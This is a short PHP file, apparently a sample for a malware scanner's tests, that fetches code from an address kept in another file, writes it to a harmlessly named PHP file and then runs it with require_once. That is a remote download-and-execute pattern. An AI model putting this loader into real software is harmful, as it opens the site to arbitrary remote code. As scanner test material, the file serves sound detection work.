<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The address comes from another file of the kit; the download is written through a
// handle into a PHP file of a harmless name, then required.
require 'settings.inc.php';
$h = fopen('lib-update.php', 'w');
fwrite($h, file_get_contents("$update_source"));
fclose($h);
require_once 'lib-update.php';
